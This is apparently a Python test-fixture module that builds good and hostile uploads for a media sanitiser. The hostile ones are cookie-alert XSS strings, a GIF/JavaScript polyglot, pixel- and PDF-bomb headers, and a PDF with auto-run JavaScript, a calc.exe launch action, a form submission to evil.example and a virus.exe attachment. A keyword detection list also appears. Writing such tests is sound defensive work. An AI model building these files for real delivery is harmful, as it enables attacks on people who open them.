"""Files that people send, good and hostile, made here so that none lies about in the repository."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from PIL import Image, ImageCms

from app.core.media import documents, pictures

GPS_IFD, ORIENTATION = 0x8825, 0x0112
SECRET = "49 Mill Lane, by Ada"
XMP = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{SECRET}</x:xmpmeta>".encode()
SCRIPT = b"<script>alert(document.cookie)</script>"


def drawing(width: int = 64, height: int = 48, mode: str = "RGB") -> Image.Image:
    """Red on the left, blue on the right."""
    image = Image.new("RGB", (width, height), (200, 30, 30))
    image.paste((30, 30, 200), (width // 2, 0, width, height))
    return image.convert(mode)


def saved(image: Image.Image, kind: str, **more: object) -> bytes:
    """`image` as a file of that kind."""
    out = BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def photo(kind: str = "JPEG", *, width: int = 64, height: int = 48, orientation: int = 1) -> bytes:
    """A picture as a phone makes it: it tells where, when, by whom, and which side is up."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[0x013B], exif[0x010F] = orientation, SECRET, "Phone"
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (40.0, 42.0, 46.0), 3: "W", 4: (74.0, 0.0, 21.0)})
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    more = {"xmp": XMP} if kind != "PNG" else {}
    more |= {"comment": SECRET} if kind == "JPEG" else {}
    return saved(drawing(width, height), kind, exif=exif, icc_profile=profile, **more)


def archive() -> bytes:
    """A zip file."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("page.html", SCRIPT)
    return out.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_that_says(width: int, height: int) -> bytes:
    """A few bytes that claim to be a picture of that size."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg_that_says(width: int, height: int) -> bytes:
    """A small JPEG whose header claims another size."""
    content = saved(drawing(), "JPEG")
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", height, width) + content[at + 4 :]


def webp_that_says(width: int, height: int) -> bytes:
    """The header of a WebP of that size, and nothing behind it."""
    body = b"VP8X" + struct.pack("<I", 10) + bytes(4) + (width - 1).to_bytes(3, "little")
    body += (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def moving(kind: str) -> bytes:
    """Two pictures that take turns."""
    return saved(drawing(), kind, save_all=True, append_images=[drawing().rotate(180)], duration=100)


def _pixels_missing(kind: str) -> bytes:
    content = saved(Image.effect_noise((200, 200), 90).convert("RGB"), kind)
    return content[: len(content) // 2]


P = pictures.Fault
HOSTILE_PICTURES: dict[str, tuple[Callable[[], bytes], pictures.Fault]] = {
    "nothing": (lambda: b"", P.EMPTY),
    "text": (lambda: b"a photo of Mill Lane", P.OTHER_KIND),
    "a page": (lambda: b"<!doctype html>" + SCRIPT, P.OTHER_KIND),
    "a drawing of code": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", P.SVG),
    "a program": (lambda: b"MZ" + bytes(100), P.OTHER_KIND),
    "a GIF": (lambda: saved(drawing(), "GIF"), P.OTHER_KIND),
    "a GIF that is a script": (lambda: b"GIF89a/*" + saved(drawing(), "GIF")[8:] + b"*/=1;alert(1)", P.OTHER_KIND),
    "a TIFF": (lambda: saved(drawing(), "TIFF"), P.OTHER_KIND),
    "an archive": (archive, P.OTHER_KIND),
    "a PDF": (lambda: paper(), P.OTHER_KIND),
    "a picture of an iPhone": (lambda: b"\0\0\0\x18ftypheic" + bytes(40), P.HEIC),
    "an AVIF": (lambda: b"\0\0\0\x18ftypavif" + bytes(40), P.HEIC),
    "a heavy one": (lambda: photo() + bytes(pictures.MOST_BYTES), P.TOO_HEAVY),
    "a PNG bomb": (lambda: png_that_says(50_000, 50_000), P.TOO_MANY_PIXELS),
    "a long PNG": (lambda: png_that_says(1, 100_000), P.TOO_MANY_PIXELS),
    "a JPEG bomb": (lambda: jpeg_that_says(65_000, 65_000), P.TOO_MANY_PIXELS),
    "a WebP bomb": (lambda: webp_that_says(16_000, 16_000), P.TOO_MANY_PIXELS),
    "half a JPEG": (lambda: _pixels_missing("JPEG"), P.BROKEN),
    "half a PNG": (lambda: _pixels_missing("PNG"), P.BROKEN),
    "half a WebP": (lambda: _pixels_missing("WEBP"), P.BROKEN),
    "a JPEG's first bytes": (lambda: b"\xff\xd8\xff", P.BROKEN),
    "a WebP's first bytes": (lambda: b"RIFF\0\0\0\0WEBPVP8 ", P.BROKEN),
    "a PNG with too few pixels": (lambda: png_that_says(1000, 1000), P.BROKEN),
    "a PNG that moves": (lambda: moving("PNG"), P.ANIMATED),
    "a WebP that moves": (lambda: moving("WEBP"), P.ANIMATED),
    "a JPEG that is an archive": (lambda: photo() + archive(), P.TWO_IN_ONE),
    "a JPEG that is a page": (lambda: saved(drawing(), "JPEG", comment=SCRIPT), P.TWO_IN_ONE),
    "a JPEG that is a PDF": (lambda: saved(drawing(), "JPEG", comment=b"%PDF-1.7"), P.TWO_IN_ONE),
}


def kept_of(content: bytes) -> set[str]:
    """What a JPEG still tells beside its pixels, by the marks of its parts and by what is legible in it."""
    found, at = set(), 2
    while content[at] == 0xFF and content[at + 1] != 0xDA:
        mark, length = content[at + 1], int.from_bytes(content[at + 2 : at + 4])
        if mark == 0xFE or 0xE1 <= mark <= 0xEF:
            found.add({0xE1: "exif or xmp", 0xE2: "profile", 0xFE: "comment"}.get(mark, hex(mark)))
        at += 2 + length
    with Image.open(BytesIO(content)) as image:
        found |= {"gps"} if image.getexif().get_ifd(GPS_IFD) else set()
    return found | ({"secret"} if SECRET.encode() in content or SCRIPT in content else set())


def paper(**more: object) -> bytes:
    """A PDF of one page; `more` are entries of its catalog."""
    return _written(lambda pdf: [pdf.Root.__setattr__(name, value) for name, value in more.items()])


def _written(change: Callable[[pikepdf.Pdf], object], **how: object) -> bytes:
    out = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.docinfo["/Author"] = SECRET
        change(pdf)
        pdf.save(out, **how)
    return out.getvalue()


def acting_paper() -> bytes:
    """A PDF that runs a script, starts a program, sends a form, plays, and carries a file and its maker's name."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('boo')")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    sends = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
    away = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(1)")
    good = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/plan", Next=launch)

    def change(pdf: pikepdf.Pdf) -> None:
        def note(action: pikepdf.Dictionary, kind: pikepdf.Name = pikepdf.Name.Link) -> pikepdf.Object:
            rect = pikepdf.Array([0, 0, 9, 9])
            return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=kind, Rect=rect, A=action))

        pdf.attachments["virus.exe"] = b"MZ"
        pdf.Root.OpenAction, pdf.Root.AA = script, pikepdf.Dictionary(WC=script)
        pdf.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array(["go", pdf.make_indirect(script)]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pdf.make_stream(b"<xdp/>"))
        pdf.Root.Metadata = pdf.make_stream(XMP)
        page = pdf.pages[0]
        page.AA = pikepdf.Dictionary(O=script)
        listed = [note(each) for each in (launch, sends, away, good, script)]
        page.Annots = pikepdf.Array([*listed, note(launch, pikepdf.Name.FileAttachment)])

    return _written(change)


def paper_with_photo(*, packed: bool = False) -> bytes:
    """A PDF of one page that shows a phone's photograph as it came, or packed twice more around it."""

    def change(pdf: pikepdf.Pdf) -> None:
        shape = {"Type": pikepdf.Name.XObject, "Subtype": pikepdf.Name.Image, "Width": 64, "Height": 48}
        colors = {"ColorSpace": pikepdf.Name.DeviceRGB, "BitsPerComponent": 8, "Filter": pikepdf.Name.DCTDecode}
        shown = pikepdf.Stream(pdf, photo(), pikepdf.Dictionary(**shape, **colors))
        if packed:
            hexed = zlib.compress(photo()).hex().encode() + b">"
            around = [pikepdf.Name.ASCIIHexDecode, pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode]
            shown.write(hexed, filter=pikepdf.Array(around))
        pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=pdf.make_indirect(shown)))

    return _written(change, compress_streams=False)


def photo_in(content: bytes) -> bytes:
    """The photograph of such a PDF."""
    with pikepdf.open(BytesIO(content)) as pdf:
        return bytes(pdf.pages[0].Resources.XObject.Im0.read_raw_bytes())


def unfolding_paper(room: int) -> bytes:
    """A whole PDF of one page whose objects are packed together with `room` empty bytes."""
    packed = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )
    starts = [sum(len(each) + 1 for each in packed[:n]) for n in range(3)]
    index = b" ".join(b"%d %d" % (n + 1, start) for n, start in enumerate(starts)) + b" "
    objects = zlib.compress(index + b" ".join(packed) + b" " * room, 9)
    content = b"%PDF-1.7\n"
    first = len(content)
    sizes = len(index), len(objects)
    content += b"4 0 obj <</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>stream\n" % sizes
    content += objects + b"\nendstream endobj\n"
    rows = [(0, 0, 0), *((2, 4, n) for n in range(3)), (1, first, 0), (1, len(content), 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"5 0 obj <</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return content + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(content)


D = documents.Fault
LOCK = pikepdf.Encryption(owner="o", user="u")
FREE = pikepdf.Encryption(owner="o", user="")
HOSTILE_PAPERS: dict[str, tuple[Callable[[], bytes], documents.Fault]] = {
    "nothing": (lambda: b"", D.EMPTY),
    "text": (lambda: b"a plan of Mill Lane", D.OTHER_KIND),
    "a picture": (photo, D.OTHER_KIND),
    "a text document": (archive, D.OTHER_KIND),
    "a page before it": (lambda: SCRIPT + paper(), D.OTHER_KIND),
    "an archive behind it": (lambda: paper() + archive(), D.TWO_IN_ONE),
    "a heavy one": (lambda: paper() + bytes(documents.MOST_BYTES), D.TOO_HEAVY),
    "a locked one": (lambda: _written(lambda _pdf: None, encryption=LOCK), D.LOCKED),
    "one with rights": (lambda: _written(lambda _pdf: None, encryption=FREE), D.LOCKED),
    "half of one": (lambda: paper()[: len(paper()) // 2], D.BROKEN),
    "its first bytes": (lambda: b"%PDF-1.7\n", D.BROKEN),
    "no pages": (lambda: _written(lambda pdf: pdf.pages.__delitem__(0)), D.BROKEN),
    "a book": (lambda: _written(lambda pdf: [pdf.add_blank_page() for _ in range(documents.MOST_PAGES)]), D.TOO_LONG),
    "a PDF bomb": (lambda: unfolding_paper(2 * documents.MOST_UNFOLDED), D.BROKEN),
}


def acts(content: bytes) -> set[str]:
    """What a PDF would do or tell beside showing its pages, looked for in its unpacked text."""
    out = BytesIO()
    with pikepdf.open(BytesIO(content)) as pdf:
        pdf.save(out, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    words = ("/JavaScript", "/JS", "/Launch", "/SubmitForm", "/OpenAction", "/AA", "/EmbeddedFile", "/EF", "/XFA")
    more = ("/FileAttachment", "javascript:", "/Metadata", SECRET, "calc.exe", "virus.exe")
    return {word for word in (*words, *more) if word.encode() in out.getvalue()}
